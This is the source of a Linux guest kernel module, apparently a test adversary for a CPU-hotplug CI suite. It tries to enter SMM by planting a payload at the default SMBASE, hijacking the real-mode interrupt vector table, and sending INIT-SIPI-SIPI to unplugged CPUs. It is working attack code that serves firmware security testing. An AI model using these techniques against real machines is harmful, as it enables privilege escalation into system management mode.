// SPDX-License-Identifier: GPL-2.0
/*
 * hpci_attack: the seeds' adversary, as a guest kernel module (images/README.md,
 * "Attack module").  A malicious guest kernel may write anywhere in RAM and
 * send IPIs; this one tries the two ways into SMM that CPU hotplug with SMM
 * must close:
 *
 *  plant TOKEN   writes the payload (payload.S) at the SMI entry of the
 *                default SMBASE (0x38000), fills the save-state map
 *                (0x3FE00-0x3FFFF) with a pattern, and reads both back: with
 *                SMRAM at the default SMBASE the writes are dropped.
 *  check         reads the default SMBASE window 0x30000-0x4FFFF: outside
 *                SMM every byte must read 0xFF once the firmware closed it.
 *  sipi TOKEN SECONDS APIC[,APIC...]
 *                puts the payload in a SIPI page and, from a kernel thread,
 *                sends INIT-SIPI-SIPI to those APIC IDs until each either ran
 *                the payload or is known to the kernel (the firmware's SMI
 *                came first, and the OS now owns the CPU), or time runs out.
 *                The payload then plants itself at 0x38000 and raises an SMI.
 *
 * Commands are written to /proc/hpci-attack; reading it returns the result
 * line of the last one.  The thread's account is a kernel message.
 */
#include <linux/ctype.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/swab.h>
#include <linux/uaccess.h>
#include <asm/apic.h>
#include <asm/smp.h>

#define SMBASE_DEFAULT   0x30000UL
#define SMBASE_WINDOW    0x20000UL   /* 0x30000-0x4FFFF */
#define SMI_ENTRY_OFF    0x8000UL
#define SAVE_STATE_OFF   0xFE00UL
#define SAVE_STATE_LEN   0x200UL
#define SAVE_PATTERN     0xA5
/* A page below 1 MiB that Linux keeps reserved and nothing else uses on these
 * guests (OVMF's post-SMM pen is at 0x9f000). */
#define SIPI_PAGE        0x60000UL
#define TOKEN_LEN        16
#define MAX_TARGETS      64
#define RESULT_LEN       256

extern const u8 hpci_payload_start[], hpci_payload_end[], hpci_payload_dseg[];
extern const u8 hpci_payload_do_smi[], hpci_payload_token[], hpci_payload_token2[];
extern const u8 hpci_payload_ran[];

#define PAYLOAD_LEN ((size_t)(hpci_payload_end - hpci_payload_start))
#define PAYLOAD_OFF(sym) ((size_t)((sym) - hpci_payload_start))

struct sipi_job {
	u32 apic[MAX_TARGETS];
	unsigned int n;
	unsigned long deadline;
	u8 *page;              /* the SIPI page, mapped */
};

static DEFINE_MUTEX(attack_lock);
static char result[RESULT_LEN];
static struct task_struct *sipi_thread;

static void set_result(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(result, sizeof(result), fmt, ap);
	va_end(ap);
}

static bool token_ok(const char *token)
{
	size_t i;

	if (strlen(token) != TOKEN_LEN)
		return false;
	for (i = 0; i < TOKEN_LEN; i++)
		if (!isxdigit(token[i]))
			return false;
	return true;
}

/* The payload for a copy at phys, with its data segment, token and role. */
static void payload_place(u8 *dst, unsigned long phys, const char *token, bool do_smi)
{
	u16 dseg = phys >> 4;

	memcpy(dst, hpci_payload_start, PAYLOAD_LEN);
	memcpy(dst + PAYLOAD_OFF(hpci_payload_dseg), &dseg, sizeof(dseg));
	dst[PAYLOAD_OFF(hpci_payload_do_smi)] = do_smi;
	memcpy(dst + PAYLOAD_OFF(hpci_payload_token), token, TOKEN_LEN);
	memcpy(dst + PAYLOAD_OFF(hpci_payload_token2), token, TOKEN_LEN);
}

/*
 * The window is read in 32-bit words: QEMU 7.2 returns all 32 bits of its
 * blackhole for a byte read, and under TCG a zero-extending byte load then
 * leaves 0xffffffff in the register (docs/facts.md §1; fixed in our QEMU by
 * patch 0008).  Word reads give the same answer on every QEMU.
 */
static size_t count_equal(const void *mapped, const void *want, size_t len)
{
	const u32 *p = mapped, *w = want;
	size_t n = 0, i, b;

	for (i = 0; i < len / 4; i++) {
		u32 got = READ_ONCE(p[i]);

		for (b = 0; b < 4; b++)
			n += ((got >> (8 * b)) & 0xff) == ((w[i] >> (8 * b)) & 0xff);
	}
	return n;
}

static int cmd_plant(const char *token)
{
	u8 *win, *entry, *save, *want, *pattern;
	size_t stuck, pattern_stuck;
	u32 head[2];

	if (!token_ok(token))
		return -EINVAL;
	want = kmalloc(PAYLOAD_LEN + SAVE_STATE_LEN, GFP_KERNEL);
	if (!want)
		return -ENOMEM;
	pattern = want + PAYLOAD_LEN;
	win = memremap(SMBASE_DEFAULT, SMBASE_WINDOW, MEMREMAP_WB);
	if (!win) {
		kfree(want);
		return -ENOMEM;
	}
	entry = win + SMI_ENTRY_OFF;
	save = win + SAVE_STATE_OFF;
	payload_place(want, SMBASE_DEFAULT + SMI_ENTRY_OFF, token, false);
	memset(pattern, SAVE_PATTERN, SAVE_STATE_LEN);
	memcpy(save, pattern, SAVE_STATE_LEN);
	memcpy(entry, want, PAYLOAD_LEN);
	wmb();
	stuck = count_equal(entry, want, PAYLOAD_LEN);
	pattern_stuck = count_equal(save, pattern, SAVE_STATE_LEN);
	head[0] = READ_ONCE(((u32 *)entry)[0]);
	head[1] = READ_ONCE(((u32 *)entry)[1]);
	set_result("HPCI-ATTACK-PLANT token=%s at=0x%lx bytes=%zu stuck=%zu pattern=%zu/%lu readback=%08x%08x",
		   token, SMBASE_DEFAULT + SMI_ENTRY_OFF, PAYLOAD_LEN, stuck, pattern_stuck,
		   SAVE_STATE_LEN, swab32(head[0]), swab32(head[1]));
	memunmap(win);
	kfree(want);
	return 0;
}

static int cmd_check(void)
{
	u32 *win = memremap(SMBASE_DEFAULT, SMBASE_WINDOW, MEMREMAP_WB);
	size_t open = 0, i, b;
	long first = -1;

	if (!win)
		return -ENOMEM;
	for (i = 0; i < SMBASE_WINDOW / 4; i++) {
		u32 got = READ_ONCE(win[i]);

		for (b = 0; b < 4; b++) {
			if (((got >> (8 * b)) & 0xff) == 0xff)
				continue;
			if (first < 0)
				first = i * 4 + b;
			open++;
		}
	}
	if (first < 0)
		set_result("HPCI-SMRAM-CHECK open=0 first=none");
	else
		set_result("HPCI-SMRAM-CHECK open=%zu first=0x%lx", open, SMBASE_DEFAULT + first);
	memunmap(win);
	return 0;
}

/* The kernel has a CPU with this APIC ID: the OS owns it now, and another
 * INIT would take it from under the kernel. */
static bool apic_known(u32 id)
{
	unsigned int cpu;

	for_each_present_cpu(cpu)
		if (per_cpu(x86_cpu_to_apicid, cpu) == id)
			return true;
	return false;
}

/* INIT, then two STARTUPs, as the MP specification orders them. */
static void send_init_sipi(u32 id)
{
	unsigned long flags;

	local_irq_save(flags);
	apic_icr_write(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, id);
	safe_apic_wait_icr_idle();
	apic_icr_write(APIC_INT_LEVELTRIG | APIC_DM_INIT, id);
	safe_apic_wait_icr_idle();
	apic_icr_write(APIC_DM_STARTUP | (SIPI_PAGE >> 12), id);
	safe_apic_wait_icr_idle();
	udelay(10);
	apic_icr_write(APIC_DM_STARTUP | (SIPI_PAGE >> 12), id);
	safe_apic_wait_icr_idle();
	local_irq_restore(flags);
}

static int sipi_fn(void *data)
{
	struct sipi_job *job = data;
	unsigned int rounds[MAX_TARGETS] = { 0 };
	const char *why[MAX_TARGETS] = { NULL };
	unsigned int left = job->n, i;
	const u8 *ran = job->page + PAYLOAD_OFF(hpci_payload_ran);

	while (left && !kthread_should_stop()) {
		bool late = time_after(jiffies, job->deadline);

		for (i = 0; i < job->n; i++) {
			if (why[i])
				continue;
			if (READ_ONCE(ran[job->apic[i] & 0xff]))
				why[i] = "ran";
			else if (apic_known(job->apic[i]))
				why[i] = "present";
			else if (late)
				why[i] = "timeout";
			if (why[i]) {
				left--;
				continue;
			}
			send_init_sipi(job->apic[i]);
			rounds[i]++;
		}
		usleep_range(1000, 2000);
	}
	for (i = 0; i < job->n; i++)
		pr_info("HPCI-ATTACK-SIPI apic=%u rounds=%u stop=%s\n", job->apic[i], rounds[i],
			why[i] ? why[i] : "stopped");
	memunmap(job->page);
	kfree(job);
	return 0;
}

/*
 * Every real-mode interrupt vector (the IVT at 0, which Linux does not use
 * once booted) points at the SIPI copy: an exception taken in SMM's
 * real-mode environment goes through this table, so SMM that strays into
 * guest memory runs the payload and says so.
 */
static int aim_vectors(void)
{
	u32 *ivt = memremap(0, PAGE_SIZE, MEMREMAP_WB);
	unsigned int v;

	if (!ivt)
		return -ENOMEM;
	for (v = 0; v < 256; v++)
		ivt[v] = (SIPI_PAGE >> 4) << 16;    /* segment:offset 6000:0000 */
	memunmap(ivt);
	return 0;
}

static int cmd_sipi(const char *token, char *args)
{
	struct sipi_job *job;
	unsigned int seconds;
	char *secs = strsep(&args, " "), *list = args, *id;
	char applied[128] = "";

	if (!token_ok(token) || !secs || !list || kstrtouint(secs, 10, &seconds) ||
	    seconds == 0 || seconds > 600)
		return -EINVAL;
	if (sipi_thread)
		return -EBUSY;
	job = kzalloc(sizeof(*job), GFP_KERNEL);
	if (!job)
		return -ENOMEM;
	while ((id = strsep(&list, ",")) && job->n < MAX_TARGETS) {
		u32 target;

		if (kstrtou32(id, 0, &target) || target > 0xfe) {
			kfree(job);
			return -EINVAL;
		}
		if (apic_known(target)) {
			kfree(job);
			return -EEXIST;
		}
		job->apic[job->n++] = target;
		scnprintf(applied + strlen(applied), sizeof(applied) - strlen(applied), "%s%u",
			  job->n > 1 ? "," : "", target);
	}
	job->page = memremap(SIPI_PAGE, PAGE_SIZE, MEMREMAP_WB);
	if (!job->page) {
		kfree(job);
		return -ENOMEM;
	}
	payload_place(job->page, SIPI_PAGE, token, true);
	if (aim_vectors() < 0) {
		memunmap(job->page);
		kfree(job);
		return -ENOMEM;
	}
	wmb();
	job->deadline = jiffies + seconds * HZ;
	sipi_thread = kthread_run(sipi_fn, job, "hpci-sipi");
	if (IS_ERR(sipi_thread)) {
		int rc = PTR_ERR(sipi_thread);

		sipi_thread = NULL;
		memunmap(job->page);
		kfree(job);
		return rc;
	}
	set_result("HPCI-ATTACK-SIPI armed token=%s apic=%s vector=0x%lx seconds=%u", token,
		   applied, SIPI_PAGE >> 12, seconds);
	return 0;
}

static ssize_t attack_write(struct file *file, const char __user *ubuf, size_t len, loff_t *pos)
{
	char buf[256], *args, *verb, *token;
	int rc;

	if (len >= sizeof(buf))
		return -E2BIG;
	if (copy_from_user(buf, ubuf, len))
		return -EFAULT;
	buf[len] = '\0';
	strim(buf);
	args = buf;
	verb = strsep(&args, " ");
	mutex_lock(&attack_lock);
	if (strcmp(verb, "check") == 0) {
		rc = cmd_check();
	} else if (strcmp(verb, "plant") == 0 && args) {
		rc = cmd_plant(args);
	} else if (strcmp(verb, "sipi") == 0 && args) {
		token = strsep(&args, " ");
		rc = cmd_sipi(token, args);
	} else {
		rc = -EINVAL;
	}
	mutex_unlock(&attack_lock);
	return rc < 0 ? rc : len;
}

static ssize_t attack_read(struct file *file, char __user *ubuf, size_t len, loff_t *pos)
{
	char line[RESULT_LEN + 1];
	ssize_t n;

	mutex_lock(&attack_lock);
	n = scnprintf(line, sizeof(line), "%s\n", result);
	mutex_unlock(&attack_lock);
	return simple_read_from_buffer(ubuf, len, pos, line, n);
}

static const struct proc_ops attack_ops = {
	.proc_write = attack_write,
	.proc_read = attack_read,
};

static int __init attack_init(void)
{
	if (memchr(hpci_payload_start, 0xFF, PAYLOAD_LEN)) {
		pr_err("hpci_attack: the payload has a 0xFF byte; see payload.S\n");
		return -EINVAL;
	}
	if (!proc_create("hpci-attack", 0600, NULL, &attack_ops))
		return -ENOMEM;
	set_result("HPCI-ATTACK-IDLE");
	return 0;
}

static void __exit attack_exit(void)
{
	remove_proc_entry("hpci-attack", NULL);
	if (sipi_thread)
		kthread_stop(sipi_thread);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hotplug-ci: the seeds' adversary against CPU hotplug with SMM");
